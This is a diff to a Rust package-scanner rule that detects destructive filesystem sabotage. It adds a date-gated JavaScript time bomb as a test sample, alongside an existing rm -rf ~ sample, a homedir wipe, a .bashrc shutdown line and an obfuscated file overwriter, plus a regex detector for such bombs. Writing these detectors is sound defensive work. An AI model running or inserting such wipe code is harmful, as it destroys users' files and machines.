@@ -8,7 +8,7 @@ crate::declare_rule! {
     /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
     /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
     /// every file found while walking parent directories, shutdown lines appended to shell rc
-    /// files.
+    /// files, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
     id: "destructive-fs",
     category: Other,
     severity: High,
@@ -20,6 +20,7 @@ crate::declare_rule! {
            "execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
+           "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })", "// never run rm -rf / on a machine"],
@@ -143,6 +144,23 @@ fn check(pkg: &Package, out: &mut Emitter) {
             .count()
             >= 1
             && (text.contains("isDirectory") || text.contains("withFileTypes"));
+        // A time bomb: after a fixed date, a recursive walk empties or overwrites what it finds.
+        let bomb = crate::regex!(
+            r#"new Date\(\s*['"`]\d{4}-\d{2}-\d{2}|Date\.UTC\(\s*20\d\d|getFullYear\(\)\s*[><]=?\s*20\d\d"#
+        );
+        if let (true, Some(w)) = (walks && recursive, overwrites)
+            && bomb.is_match(text)
+            && (text.contains("Date.now()") || text.contains("new Date()"))
+        {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                w.off,
+                "after a fixed date, walks directories and overwrites every file with fixed content",
+            );
+            continue;
+        }
         if let (true, true, Some(w)) = (walks && recursive, above, overwrites) {
             out.hit(
                 pkg,
